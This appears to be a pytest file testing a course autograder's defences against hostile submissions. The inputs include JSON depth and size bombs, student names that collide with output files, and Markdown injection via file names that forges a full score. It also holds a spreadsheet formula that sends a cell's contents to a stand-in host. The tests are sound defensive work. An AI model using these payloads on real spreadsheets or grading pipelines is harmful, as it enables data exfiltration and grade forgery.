"""What a student or a pull request chooses, handed to the trusted side (issue 26): a
student folder named like a class file, a name that is a spreadsheet formula, a notebook
file name that writes Markdown, and notebooks too deep, too large or too long. Each
attack the red team found is here with its outcome asserted, and each limit in every verb
(`check`, `grade`, `ci-grade`, Gradescope, the pytest form)."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
import time
from dataclasses import asdict
from pathlib import Path

import pytest
from grading_tools import full_marks
from markdown_it import MarkdownIt
from notebook_tools import ROOT, STUB
from test_ci import copy_course

from backprop_lab.gradebook.batch import grade_submissions
from backprop_lab.gradebook.grades import read_grades_csv, summary_markdown, write_grades_csv
from backprop_lab.gradebook.submissions import MAX_NAME, find_submissions, safe_name
from backprop_lab.plan.notebook import (
    MAX_CELLS,
    MAX_JSON_DEPTH,
    MAX_NOTEBOOK_BYTES,
    NotebookError,
    load_notebook,
)
from backprop_lab.report.csvcells import FORMULA_STARTS, neutralised, restored
from backprop_lab.report.markdown import markdown_code, markdown_text
from backprop_lab.report.records import Record, Submitted
from backprop_lab.verbs.cli import main
from backprop_lab.verbs.gradescope import CONFIG, BundleConfig, run_autograder

# --- the notebooks ------------------------------------------------------------------------


def deep_notebook() -> bytes:
    """Notebook JSON whose metadata nests 200,000 lists deep: json's parser recurses once
    per level and gives up long before."""
    depth = 200_000
    return (
        '{"cells": [], "metadata": {"x": ' + "[" * depth + "]" * depth + "}, "
        '"nbformat": 4, "nbformat_minor": 5}'
    ).encode()


ADDED_CELLS = 100_000
# the assignment's cells and those the attack adds, as the reason counts them
MANY_CELLS = len(json.loads(STUB["backprop"].read_text(encoding="utf-8"))["cells"]) + ADDED_CELLS


def many_cells_notebook() -> bytes:
    """The assignment with 100,000 Markdown cells added: a valid notebook, which nbformat
    took half a minute to validate."""
    nb = json.loads(STUB["backprop"].read_text(encoding="utf-8"))
    nb["cells"] += [
        {"cell_type": "markdown", "id": f"m{i}", "metadata": {}, "source": f"note {i}"}
        for i in range(ADDED_CELLS)
    ]
    return json.dumps(nb).encode()


def large_notebook() -> bytes:
    return b" " * (MAX_NOTEBOOK_BYTES + 1)  # the size is refused before a byte is parsed


ATTACKS = {  # name -> (notebook bytes, what the reason says)
    "deep": (deep_notebook, f"nests its JSON more than {MAX_JSON_DEPTH} levels deep"),
    "many-cells": (many_cells_notebook, f"has {MANY_CELLS:,} cells, more than the {MAX_CELLS:,}"),
    "large": (large_notebook, f"more than the {MAX_NOTEBOOK_BYTES // 2**20} MiB"),
}


@pytest.fixture(params=list(ATTACKS), scope="module")
def attack(request: pytest.FixtureRequest) -> tuple[str, bytes, str]:
    make, says = ATTACKS[request.param]
    return request.param, make(), says


def test_each_limit_is_far_above_the_course_s_notebooks() -> None:
    for path in (*ROOT.glob("assignments/*/*.ipynb"), *ROOT.glob("solutions/*/*.ipynb")):
        load_notebook(path)  # not refused
        nb = json.loads(path.read_text(encoding="utf-8"))
        assert len(nb["cells"]) * 20 < MAX_CELLS and path.stat().st_size * 100 < (
            MAX_NOTEBOOK_BYTES
        )


def test_the_limits_refuse_before_the_time_goes(tmp_path: Path) -> None:
    """The 100,000 cells are refused on the bare JSON: a check took 31 s of nbformat."""
    path = tmp_path / "backprop.ipynb"
    path.write_bytes(many_cells_notebook())
    started = time.perf_counter()
    with pytest.raises(NotebookError, match=f"has {MANY_CELLS:,} cells"):
        load_notebook(path)
    assert time.perf_counter() - started < 5


# --- every verb ---------------------------------------------------------------------------


def test_check_says_ungradeable_and_why(
    attack, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    _, data, says = attack
    notebook = tmp_path / "backprop.ipynb"
    notebook.write_bytes(data)
    results = tmp_path / "results.json"
    assert main(["check", str(notebook), "--json", str(results)]) == 2
    assert says in capsys.readouterr().err
    record = json.loads(results.read_text())
    assert record["extra_data"]["status"] == "ungradeable" and says in record["output"]


def test_gradescope_says_ungradeable_and_why(attack, tmp_path: Path) -> None:
    _, data, says = attack
    root = tmp_path / "autograder"
    (root / "source").mkdir(parents=True)
    config = BundleConfig(seed=5, assignment="backprop")
    (root / "source" / CONFIG).write_text(json.dumps(asdict(config)))
    (root / "submission").mkdir()
    (root / "submission" / "backprop.ipynb").write_bytes(data)
    results = run_autograder(root)
    assert results["extra_data"]["status"] == "ungradeable", results["output"]
    assert says in results["output"] and results["score"] == 0
    assert results == json.loads((root / "results" / "results.json").read_text())


def test_the_pytest_form_says_why(attack, tmp_path: Path) -> None:
    _, data, says = attack
    notebook = tmp_path / "backprop.ipynb"
    notebook.write_bytes(data)
    done = subprocess.run(
        [sys.executable, "-m", "pytest", "--pyargs", "backprop_lab.verbs.grading", "-p",
         "no:cacheprovider", "--autograde-notebook", str(notebook)],
        cwd=tmp_path, capture_output=True, text=True, timeout=300, stdin=subprocess.DEVNULL,
        env={k: v for k, v in os.environ.items() if not k.startswith("PYTEST_")},
    )  # fmt: skip
    printed = done.stdout + done.stderr
    assert done.returncode == 2, printed  # as `check` exits on a notebook it cannot grade
    assert f"cannot grade {notebook}" in done.stderr and says in done.stderr
    assert "Traceback" not in printed and ".py:" not in printed  # no code, only the reason


# --- a class whose names are attacks (`autograde grade`) -----------------------------------

# full marks ("15/15") as a file name can hold them: "/" is a folder's end, so the
# division slash
FAKE_SCORE = f"{full_marks('backprop')}\u2215{full_marks('backprop')}"
FORMULA = '=HYPERLINK("evil.example?"&A1,"open")'  # no /: a folder's name
CLASS = {  # student folder -> its notebook
    "grades.csv": deep_notebook,
    "summary.md": many_cells_notebook,
    FORMULA: lambda: b"{not json",
    "submissions": lambda: b'{"cells": [ ,',  # the name of the students' folder itself
    f"bob\n## ✅ bob: {FAKE_SCORE} <!--": lambda: b"[]",
}


# the tests that read the class graded once: on one worker (tests/conftest.py)
UNTRUSTED_CLASS = pytest.mark.xdist_group("untrusted-class")


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("class")
    for student, make in CLASS.items():
        (root / "class" / student).mkdir(parents=True)
        (root / "class" / student / "backprop.ipynb").write_bytes(make())
    summary = grade_submissions([root / "class"], root / "out", workers=1, progress=False)
    assert summary.exit_code == 1  # every one ungradeable, none a grader error
    return root / "out"


@UNTRUSTED_CLASS
def test_students_named_like_the_class_files_leave_them_be(graded_class: Path) -> None:
    assert (graded_class / "grades.csv").is_file() and (graded_class / "summary.md").is_file()
    rows = read_grades_csv(graded_class / "grades.csv")
    assert sorted(r["student"] for r in rows) == sorted(CLASS)
    assert {r["status"] for r in rows} == {"ungradeable"}  # never "error"
    by_student = {r["student"]: r for r in rows}
    assert ATTACKS["deep"][1] in by_student["grades.csv"]["message"]
    assert ATTACKS["many-cells"][1] in by_student["summary.md"]["message"]
    # each student's record is in a folder of their own, under submissions/
    folders = sorted(p.parent.relative_to(graded_class).as_posix()
                     for p in graded_class.rglob("results.json"))  # fmt: skip
    assert folders == sorted(f"submissions/{safe_name(s)}/backprop" for s in CLASS)
    assert sorted(p.name for p in graded_class.iterdir() if not p.name.startswith(".")) == [
        "grades.csv", "submissions", "summary.md"]  # fmt: skip


@UNTRUSTED_CLASS
def test_a_formula_for_a_name_is_text_in_grades_csv(graded_class: Path) -> None:
    with (graded_class / "grades.csv").open(newline="", encoding="utf-8") as f:
        header, *rows = list(csv.reader(f))
    text = [header.index(c) for c in ("student", "assignment", "status", "message", "notebook")]
    assert [r[0] for r in rows if "HYPERLINK" in r[0]] == [f"'{FORMULA}"]
    assert not [r[i] for r in rows for i in text if r[i][:1] in FORMULA_STARTS]
    # read back as it was: merge and every reader see the student's own name
    assert FORMULA in {r["student"] for r in read_grades_csv(graded_class / "grades.csv")}


@UNTRUSTED_CLASS
def test_names_are_one_line_in_the_class_summary(graded_class: Path) -> None:
    html = render((graded_class / "summary.md").read_text(encoding="utf-8"))
    assert headings(html) == ["Grading summary", "Needs a person", "Every submission"]
    assert "<!--" not in html and FAKE_SCORE in html  # shown, as text


DEVICE = re.compile(r"(CON|PRN|AUX|NUL|COM\d|LPT\d)(\..*)?", re.IGNORECASE)  # Windows'


def test_every_name_gets_a_distinct_safe_folder(tmp_path: Path) -> None:
    names = ["CON", "nul.txt", "__", "a" * 250, "a" * 250 + "b", "é", "ü", "-rf", "x y"]
    for name in names:
        (tmp_path / "class" / name).mkdir(parents=True)
        (tmp_path / "class" / name / "matmul.ipynb").write_bytes(b"{}")
    found = find_submissions([tmp_path / "class"])
    keys = [s.key for s in found]
    assert sorted(s.student for s in found) == sorted(names)  # each keeps its own name
    assert len(set(keys)) == len(names)
    for key in keys:
        student = key.split("/")[0]
        assert re.fullmatch(r"[A-Za-z0-9_.@+-]+", student) and len(student) <= MAX_NAME
        assert not student.startswith(".") and not DEVICE.fullmatch(student)
    assert safe_name("grades.csv") == "grades.csv"  # readable where it can be


# --- grades.csv -----------------------------------------------------------------------------


def test_csv_cells_round_trip_and_never_start_a_formula() -> None:
    texts = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1", "'", "''", "",
             "plain", "a=b", "'plain", "\n=1"]  # fmt: skip
    for text in texts:
        cell = neutralised(text)
        assert restored(cell) == text, text
        assert cell[:1] not in FORMULA_STARTS, text
    assert neutralised("=1") == "'=1"  # OWASP's single quote


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    who = Submitted("-ann", "ann/backprop", "/c/-ann/backprop.ipynb")
    full = full_marks("backprop")
    record = Record(score=0, output="x", seed=-7, max_score=full, status="graded", submitted=who)
    write_grades_csv([record], tmp_path / "grades.csv")
    with (tmp_path / "grades.csv").open(newline="", encoding="utf-8") as f:
        [row] = list(csv.DictReader(f))
    assert row["seed"] == "-7" and row["score"] == "0"  # numbers, as the gradebook sums them
    assert row["student"] == "'-ann"
    assert read_grades_csv(tmp_path / "grades.csv")[0]["student"] == "-ann"


# --- Markdown ------------------------------------------------------------------------------

INJECTED = f"x`\n## ✅ backprop.ipynb (backprop): {FAKE_SCORE}, every check passed\n<!--`"
_MD = MarkdownIt("commonmark", {"html": True}).enable("table")  # as GitHub reads it


def render(markdown: str) -> str:
    return _MD.render(markdown)


def headings(html: str) -> list[str]:
    return re.findall(r"<h[1-6]>(.*?)</h[1-6]>", html)


@pytest.mark.parametrize("text", [INJECTED, "a\r## b", "a\r\n## b", "`a\r## b`", "[x](y) <b>"])
def test_markdown_text_and_code_stay_on_their_line(text: str) -> None:
    for shown in (markdown_text(text, one_line=True), markdown_code(text)):
        html = render(f"### {shown}")
        assert len(headings(html)) == 1 and "<!--" not in html and "<b>" not in html, html
    cells = markdown_text(text, table=True), markdown_code(text, table=True)
    html = render("| {} |\n|---|\n| {} |".format(*cells))
    assert "<h" not in html and "<!--" not in html and html.count("<td>") == 1, html


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """BASE and HEAD checkouts; each test adds its notebooks to HEAD and names them."""
    tmp = tmp_path_factory.mktemp("pr")
    base = copy_course(tmp / "base")
    head = tmp / "head"
    shutil.copytree(base, head)
    return base, head


def ci_grade(course, rel: str, data: bytes, out: Path) -> tuple[int, str]:
    base, head = course
    (head / rel).parent.mkdir(parents=True, exist_ok=True)
    (head / rel).write_bytes(data)
    summary = out.parent / "summary.md"
    argv = ["ci-grade", "--base", str(base), "--head", str(head), "--changed", rel,
            "--out", str(out), "--summary", str(summary)]  # fmt: skip
    code = main(argv)
    return code, summary.read_text(encoding="utf-8")


def test_a_notebook_s_name_cannot_write_the_pr_summary(
    course, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    """The red team's file name: its real 0 points shown, no heading of its own, no comment
    left open to hide what follows."""
    rel = f"assignments/backprop/{INJECTED}.ipynb"
    code, summary = ci_grade(course, rel, STUB["backprop"].read_bytes(), tmp_path / "out")
    assert code == 1  # checks failed: graded, not refused
    html = render(summary)
    [title, report] = headings(html)
    assert title == "autograde: pull request grading"
    assert report.endswith(f"(backprop): 0/{full_marks('backprop')}")
    assert FAKE_SCORE in report  # the name, as text
    assert "<!--" not in html
    assert "❌ failed" in html and (tmp_path / "out" / "summary.md").read_text() == summary
    # the artifact: a results.json in a folder any artifact takes
    [results] = (tmp_path / "out").rglob("results.json")
    assert json.loads(results.read_text())["score"] == 0
    assert re.fullmatch(r"[A-Za-z0-9_.@+/-]+", results.relative_to(tmp_path / "out").as_posix())
    annotations = [ln for ln in capsys.readouterr().out.splitlines() if ln.startswith("::")]
    assert annotations and all("\n" not in a and "%0A" in a for a in annotations)


def test_ci_grade_says_ungradeable_and_why(course, attack, tmp_path: Path) -> None:
    name, data, says = attack
    rel = f"assignments/backprop/{name}.ipynb"
    code, summary = ci_grade(course, rel, data, tmp_path / "out")
    assert code == 2  # not graded: a summary that says why, never a traceback
    assert f"{name}.ipynb: not graded" in summary and says in summary
    [results] = (tmp_path / "out").rglob("results.json")
    record = json.loads(results.read_text())
    assert record["extra_data"]["status"] == "ungradeable" and says in record["output"]


def test_the_class_summary_escapes_what_it_is_given() -> None:
    record = Record(score=0, output="x", status="ungradeable", message=INJECTED,
                    submitted=Submitted(INJECTED, "x/backprop", INJECTED))  # fmt: skip
    html = render(summary_markdown([record]))
    assert headings(html) == ["Grading summary", "Needs a person", "Every submission"]
    assert "<!--" not in html
